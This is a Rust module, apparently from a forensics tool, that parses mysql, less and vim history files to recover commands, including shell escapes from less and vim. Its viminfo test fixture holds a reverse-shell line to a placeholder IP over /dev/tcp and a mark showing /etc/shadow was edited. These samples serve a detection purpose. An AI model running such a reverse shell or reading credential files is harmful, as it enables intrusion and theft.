//! Tool histories with their own encodings: mysql, less, vim.
//!
//! - **mysql / mariadb** (`~/.mysql_history`): libedit writes one statement per line with
//!   spaces and other special bytes as octal escapes (`\040`); `\\` is a backslash.
//! - **less** (`~/.lesshst`): a `.less-history-file:` header, then sections `.search`,
//!   `.shell`, `.mark`; entries start with `"`. Only `.shell` entries (commands run with `!`
//!   from inside less — a classic way out of a restricted shell or sudo rule) are returned.
//! - **vim** (`~/.viminfo`): the `# Command Line History` section holds `:`-prefixed ex
//!   commands (`:!cmd` runs a shell command), each optionally followed by a
//!   `|2,0,<epoch>,,"…"` line that carries its time; `> /path` lines under
//!   `# History of marks within files` name files that were edited. Commands are returned
//!   without the `:`/`!` prefix; edited files as `vim <path>`.

use super::HistoryEntry;

fn lossy(bytes: &[u8]) -> String {
    let bytes = &bytes[..bytes.len().min(super::shell::MAX_COMMAND_BYTES)];
    let bytes = bytes.strip_suffix(b"\r").unwrap_or(bytes);
    String::from_utf8_lossy(bytes).into_owned()
}

/// Decodes libedit's octal escapes (`\040` → space, `\\` → `\`).
pub fn unescape_octal(line: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(line.len());
    let mut i = 0;
    while i < line.len() {
        if line[i] == b'\\' {
            let octal = line
                .get(i + 1..i + 4)
                .filter(|d| d.iter().all(|b| (b'0'..=b'7').contains(b)));
            if let Some(d) = octal {
                let value = d.iter().fold(0u32, |acc, b| acc * 8 + u32::from(b - b'0'));
                if let Ok(byte) = u8::try_from(value) {
                    out.push(byte);
                    i += 4;
                    continue;
                }
            }
            if line.get(i + 1) == Some(&b'\\') {
                out.push(b'\\');
                i += 2;
                continue;
            }
        }
        out.push(line[i]);
        i += 1;
    }
    out
}

/// MySQL client history.
pub fn parse_mysql(data: &[u8]) -> Vec<HistoryEntry> {
    data.split(|&b| b == b'\n')
        .enumerate()
        .filter(|(_, l)| !l.is_empty() && *l != b"_HiStOrY_V2_")
        .map(|(i, l)| HistoryEntry {
            line: i + 1,
            command: lossy(&unescape_octal(l)),
            time: None,
        })
        .filter(|e| !e.command.trim().is_empty())
        .collect()
}

/// less history: the shell commands run from less.
pub fn parse_less(data: &[u8]) -> Vec<HistoryEntry> {
    let mut out = Vec::new();
    let mut in_shell = false;
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = lossy(raw);
        if line.starts_with('.') {
            in_shell = line == ".shell";
            continue;
        }
        if in_shell {
            if let Some(cmd) = line.strip_prefix('"') {
                if !cmd.trim().is_empty() {
                    out.push(HistoryEntry {
                        line: i + 1,
                        command: cmd.to_string(),
                        time: None,
                    });
                }
            }
        }
    }
    out
}

/// vim's viminfo: command-line history (with times where recorded) and edited files.
pub fn parse_viminfo(data: &[u8]) -> Vec<HistoryEntry> {
    #[derive(PartialEq)]
    enum Section {
        Commands,
        Marks,
        Other,
    }
    let mut out: Vec<HistoryEntry> = Vec::new();
    let mut section = Section::Other;
    let mut last_was_command = false;
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = lossy(raw);
        if let Some(title) = line.strip_prefix("# ") {
            section = if title.starts_with("Command Line History") {
                Section::Commands
            } else if title.starts_with("History of marks within files") {
                Section::Marks
            } else {
                Section::Other
            };
            last_was_command = false;
            continue;
        }
        match section {
            Section::Commands => {
                if let Some(cmd) = line.strip_prefix(':') {
                    let cmd = cmd.strip_prefix('!').unwrap_or(cmd);
                    out.push(HistoryEntry {
                        line: i + 1,
                        command: cmd.to_string(),
                        time: None,
                    });
                    last_was_command = true;
                    continue;
                }
                if last_was_command && line.starts_with("|2,") {
                    let secs = line.split(',').nth(2).and_then(|s| s.parse::<i64>().ok());
                    if let (Some(secs), Some(last)) = (secs, out.last_mut()) {
                        last.time = huoyan_core::time::from_unix(secs, 0);
                    }
                }
                last_was_command = false;
            }
            Section::Marks => {
                if let Some(path) = line.strip_prefix("> ") {
                    out.push(HistoryEntry {
                        line: i + 1,
                        command: format!("vim {}", path.trim()),
                        time: None,
                    });
                }
            }
            Section::Other => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mysql_octal_escapes() {
        let h = parse_mysql(
            b"_HiStOrY_V2_\nselect\\040*\\040from\\040users;\nsystem\\040id\nbad\\9\\\\x\n",
        );
        assert_eq!(h[0].command, "select * from users;");
        assert_eq!(h[0].line, 2);
        assert_eq!(h[1].command, "system id");
        assert_eq!(h[2].command, "bad\\9\\x");
    }

    #[test]
    fn less_shell_section() {
        let h = parse_less(b".less-history-file:\n.search\n\"password\n.shell\n\"bash -i\n\"id\n.mark\nm a 1 0 /etc/x\n");
        assert_eq!(h.len(), 2);
        assert_eq!(h[0].command, "bash -i");
        assert_eq!(h[0].line, 5);
    }

    #[test]
    fn viminfo_commands_times_and_files() {
        let data = b"# This viminfo file was generated by Vim 9.0.\n\n# Command Line History (newest to oldest):\n:!bash -i >& /dev/tcp/203.0.113.7/443 0>&1\n|2,0,1700000000,,\"!bash -i >& /dev/tcp/203.0.113.7/443 0>&1\"\n:wq\n|2,0,1699999000,,\"wq\"\n\n# Search String History (newest to oldest):\n?/root\n\n# History of marks within files (newest to oldest):\n\n> /etc/shadow\n\t*\t1700000000\t0\n";
        let h = parse_viminfo(data);
        assert_eq!(h.len(), 3);
        assert_eq!(h[0].command, "bash -i >& /dev/tcp/203.0.113.7/443 0>&1");
        assert_eq!(h[0].time.map(|t| t.as_second()), Some(1_700_000_000));
        assert_eq!(h[1].command, "wq");
        assert_eq!(h[2].command, "vim /etc/shadow");
    }

    #[test]
    fn garbage_and_truncated_input() {
        for data in [
            &b""[..],
            b"\\",
            b"\\04",
            b"\xff\xfe",
            b"# Command Line History\n|2,",
            b".shell\n\"",
        ] {
            let _ = parse_mysql(data);
            let _ = parse_less(data);
            let _ = parse_viminfo(data);
        }
    }
}
